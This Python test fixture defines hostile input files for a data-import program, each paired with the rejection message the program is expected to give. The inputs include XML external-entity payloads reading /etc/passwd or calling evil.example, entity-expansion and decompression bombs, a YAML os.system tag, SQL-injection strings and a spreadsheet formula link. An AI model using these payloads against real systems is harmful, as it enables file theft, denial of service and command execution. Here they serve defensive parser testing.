"""Hostile files, made when they are needed: what each is, and what the program says of it."""

import gzip
import io
import json
import zipfile
from collections.abc import Callable
from typing import NamedTuple

from tests.formats.gramps_files import HEAD
from tests.fuzz.readers import PART, spreadsheet, workbook
from tests.fuzz.seeds import seeds

_TREE = HEAD.replace("{version}", "1.7.1")
_ICS = "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:1\r\nSUMMARY:x\r\n{}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
_SHEET = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'
_CELL = '<row r="{row}"><c t="inlineStr"><is><t>{text}</t></is></c></row>'
_ODS = seeds("ods")[0].decode().split("<table:table-row>")[0]


class Hostile(NamedTuple):
    """One file.

    Args:
        name: what it is called.
        make: makes its bytes.
        says: what the program says of it, "" where it takes the file as text.
        format: what ``--as`` says, "" for nothing.
    """

    name: str
    make: Callable[[], bytes]
    says: str
    format: str = ""


def _text(name: str, text: str, says: str, format_: str = "") -> Hostile:
    return Hostile(name, lambda: text.encode("utf-8", "surrogatepass"), says, format_)


def _sheet(rows: str) -> bytes:
    return workbook(_SHEET.format(rows).encode())


def _packed(name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
        if name == "xl/worksheets/sheet1.xml":
            archive.writestr("xl/workbook.xml", "<workbook/>")
    return out.getvalue()


def _ods_rows(rows: str) -> bytes:
    tail = "</table:table></office:spreadsheet></office:body></office:document-content>"
    return spreadsheet((_ODS + rows + tail).encode())


def _years() -> bytes:
    """Return a file so large that it is read in parts, its years written as numbers."""
    lines: list[dict[str, object]] = [{"type": "chronology", "chronology": 1, "dataset": None}]
    event = {"type": "event", "title": "x" * 4600, "when": 2016}
    lines += [{**event, "key": str(number)} for number in range(1000)]
    return "\n".join(map(json.dumps, lines)).encode()


_LAUGHS = "<!DOCTYPE d [" + "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10)
) + "]>"  # fmt: skip

_SEED = '{"chronology": 1, "events": [%s]}'


def _event(**values: object) -> str:
    return _SEED % json.dumps({"key": "a", "title": "A", **values})


HOSTILE: tuple[Hostile, ...] = (
    # Entities, in every XML that is read.
    _text("laughs.gramps", f"{_LAUGHS}<database>&l9;</database>", "could be an attack", "gramps"),
    _text("file.gramps", '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>', "could be an attack", "gramps"),
    _text("parameter.gramps", '<!DOCTYPE d [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]><d/>', "could be an attack", "gramps"),
    Hostile("laughs.ods", lambda: spreadsheet(f"{_LAUGHS}<a>&l9;</a>".encode()), "cannot be read: EntitiesForbidden"),
    Hostile("laughs.xlsx", lambda: workbook(f"{_LAUGHS}<worksheet>&l9;</worksheet>".encode()), "The workbook cannot be read|is empty"),
    _text("encoding.gramps", '<?xml version="1.0" encoding="utf-7"?><database/>', "an encoding that is not read|not the XML of Gramps", "gramps"),
    _text("deep.gramps", _TREE + "<notes>" + "<note>" * 5000, "lie more than 64 deep", "gramps"),
    # Bombs.
    Hostile("bomb.csv.gz", lambda: gzip.compress(b"title,when\n" + (b"a" * 900_000 + b",\n") * 8), "more than 300 times its size"),
    Hostile("bomb.xlsx", lambda: _packed("xl/worksheets/sheet1.xml", b" " * (5 << 20)), "more than 300 times its size"),
    Hostile("bomb.ods", lambda: _packed("content.xml", b" " * (5 << 20)), "more than 300 times its size"),
    Hostile("cut.csv.gz", lambda: gzip.compress(b"title\n" + bytes(range(48, 90)) * 500)[:-30], "ends in the middle|is damaged"),
    Hostile("gz.gz.csv.gz", lambda: gzip.compress(gzip.compress(b"title\nA\n")), "NUL|empty|cannot be told|stands twice|title"),
    Hostile("rows.xlsx", lambda: _sheet(_CELL.format(row=1, text="title") + _CELL.format(row="1e300", text="x")), "more than 1,048,576 rows"),
    Hostile("repeated.ods", lambda: _ods_rows('<table:table-row table:number-rows-repeated="9999999"><table:table-cell><text:p>x</text:p></table:table-cell></table:table-row>'), "more than 1,048,576 rows"),
    Hostile("wide.ods", lambda: _ods_rows('<table:table-row><table:table-cell table:number-columns-repeated="99999"><text:p>x</text:p></table:table-cell></table:table-row>'), "more than 16,384 columns"),
    Hostile("digits.ods", lambda: _ods_rows(f'<table:table-row table:number-rows-repeated="{"9" * 5000}"/>'), "is no table:number-rows-repeated"),
    # Depth.
    _text("deep.json", '{"chronology": 1, "events": ' + "[" * 100_000, "nested too deeply"),
    _text("deeper.json", _SEED % ('{"key": "a", "title": "A", "extra": ' + '{"a":' * 900 + "1" + "}" * 901), "nested too deeply|not JSON"),
    _text("extra.jsonl", '{"type": "chronology", "chronology": 1}\n{"type": "event", "key": "a", "title": "A", "extra": ' + '{"a":' * 500 + "1" + "}" * 501, "nested too deeply"),
    _text("deep.yaml", "chronology: 1\nevents: " + "[" * 100_000, "nested too deeply"),
    _text("block.yaml", "chronology: 1\nevents:\n" + "- " * 100_000, "nested too deeply"),
    _text("keys.yaml", "? " * 100_000, "a key must be plain text|nested too deeply", "yaml"),
    _text("deep.geojson", '{"type": "FeatureCollection", "features": ' + "[" * 99_999, "nested too deeply"),
    # Names and anchors of YAML.
    _text("tag.yaml", "chronology: 1\ntitle: !!python/object/apply:os.system [id]\n", "the tag .* is not read"),
    _text("alias.yaml", "chronology: &a 1\ntitle: *a\n", "the alias “\\*a”"),
    _text("laughs.yaml", "a: &a [x]\n" + "".join(f"{c}: &{c} [{','.join([f'*{chr(ord(c) - 1)}'] * 9)}]\n" for c in "bcdefghi"), "the alias “\\*a”", "yaml"),
    # Numbers.
    _text("digits.json", _SEED % ('{"key": "a", "title": "A", "extra": {"n": ' + "9" * 5000 + "}}"), "more than 4,300 digits"),
    _text("digits.yaml", "chronology: 1\nevents: [{key: a, title: A, extra: {n: " + "9" * 5000 + "}}]\n", "more than 4,300 digits"),
    _text("infinite.json", _SEED % '{"key": "a", "title": "A", "extra": {"n": 1e999}}', "extra: inf is not a finite number|not a finite number"),
    _text("infinite.yaml", "chronology: 1\nevents: [{key: a, title: A, extra: {n: 1e999}}]\n", "extra: inf is not a finite number|not a finite number"),
    _text("nan.json", _SEED % '{"key": "a", "title": "A", "extra": {"n": NaN}}', "NaN is no JSON number"),
    _text("constant.jsonl", '{"type": "chronology", "chronology": 1, "x": -Infinity}', "Infinity is no JSON number"),
    _text("huge-radius.json", '{"chronology": 1, "places": [{"key": "a", "name": "A", "radius_m": 9223372036854775808}]}', ""),
    _text("latitude.csv", "title,when,place,latitude,longitude\nA,2016,P,1e308,1e308\n", "latitude"),
    # Keys, characters.
    _text("twice.json", '{"chronology": 1, "chronology": 2}', "stands twice"),
    _text("surrogate.json", _event(title="lone \ud800 surrogate"), "half a pair"),
    _text("surrogate.jsonl", '{"type": "chronology", "chronology": 1}\n{"type": "event", "key": "a", "title": "\\udc80"}\n', "half a pair"),
    _text("escaped-nul.json", _event(title="a\0b"), "NUL"),
    Hostile("nul.json", lambda: b'{"chronology": 1, "title": "a\0"}', "NUL"),
    Hostile("latin.json", lambda: b'{"chronology": 1, "title": "caf\xe9"}', "is not UTF-8"),
    Hostile("latin.yaml", lambda: b"chronology: 1\ntitle: caf\xe9\n", "is not UTF-8"),
    Hostile("nul.csv", lambda: b"title,when\nA\0,2016\n", "NUL"),
    Hostile("nul-header.csv", lambda: b"ti\0tle,when\nA,2016\n", "NUL"),
    Hostile("utf16.csv", lambda: "title,when\nA,2016\n".encode("utf-16"), ""),
    _text("bidi.csv", "title,when\nA \u202egnp.exe,2016\n", ""),
    _text("escape.csv", "title,when\n\x1b]0;owned\x07,2016\n", ""),
    _text("sql.csv", "title,when,place,actors,sources,tags\n'); DROP TABLE event; --,2016,' OR 1=1,Ana'); --x,wire,%s :id {x}\n", ""),
    _text("formula.csv", 'title,when\n"=HYPERLINK(""http://evil.example"",""x"")",2016\n\'=1+1,2016\n', ""),
    # Sizes.
    _text("cell.csv", "title,when\n" + "x" * 10_000_000 + ",2016\n", "more than 1,000,000 characters"),
    Hostile("cell.xlsx", lambda: _sheet(_CELL.format(row=1, text="title") + _CELL.format(row=2, text="x" * 1_000_001)), "more than 1,000,000 characters"),
    _text("quotes.csv", "title,when\n" + '""""""\n' * 20_000, "the row has 1 cells and the header 2: too few"),
    _text("unclosed.csv", 'title,when\n"A,2016\n' + "B,2017\n" * 1000, "quotes of the row that begins here do not match"),
    _text("columns.csv", ",".join(f"c{n}" for n in range(20_000)) + "\n1\n", "names 20,000 columns"),
    _text("header.csv", "title," + "x" * 2_000_000 + "\nA,1\n", "more than 1,000,000 characters|field larger"),
    _text("line.jsonl", '{"type": "chronology", "chronology": 1, "title": "' + "x" * 100 + '"', "not JSON"),
    Hostile("zeros.csv", lambda: b"\0" * 100_000, "NUL"),
    Hostile("empty.csv", lambda: b"", "empty"),
    Hostile("empty.xlsx", lambda: b"PK\x03\x04", "damaged"),
    Hostile("other.xlsx", lambda: _packed("evil.exe", b"MZ"), "no spreadsheet"),
    Hostile("crypted.xlsx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "Excel 97"),
    # The ends of time.
    _text("dates.csv", "title,when\nA,Y1E400\nB,-9999999999999\nC,Y-9999999999999999999999\nD,1e308\nE,Y1E308\nF,999999999999999999999-01-01\n", "cannot be read as a date"),
    _text("rrule.ics", _ICS.format("DTSTART:20160715T100000Z\r\nRRULE:FREQ=SECONDLY;COUNT=999999999"), ""),
    _text("far.ics", _ICS.format("DTSTART:99991231T235959Z\r\nDURATION:P999999999D"), ""),
    _text("params.ics", _ICS.format("DTSTART;VALUE=DATE;VALUE=X:20160715"), ""),
    # What the fuzzers found.
    Hostile("year.jsonl", _years, ""),
    _text("kind.jsonl", '{"type": "chronology", "chronology": 1}\n{"type": {}}', "type"),
    _text("null-name.json", '{"chronology": 1, "places": [{"key": "a", "name": null}]}', "places\\[0\\]"),
    _text("no-year.tsv", "id\teq_primary\n1\t2\n", "it has no column “year”", "noaa"),
    _text("geometry.geojson", '{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {"title": "x", "date": "2016"}, "geometry": {"type": [], "coordinates": [1, 2]}}]}', "no kind of geometry"),
    Hostile("truncated.ods", lambda: spreadsheet(seeds("ods")[0][:-40]), "The spreadsheet cannot be read"),
    Hostile("book.xlsx", lambda: workbook(PART.join((*seeds("xlsx")[0].split(PART), b"<workbook/>", b"<Relationships/>", b"<Types/>"))), "The workbook cannot be read"),
)  # fmt: skip
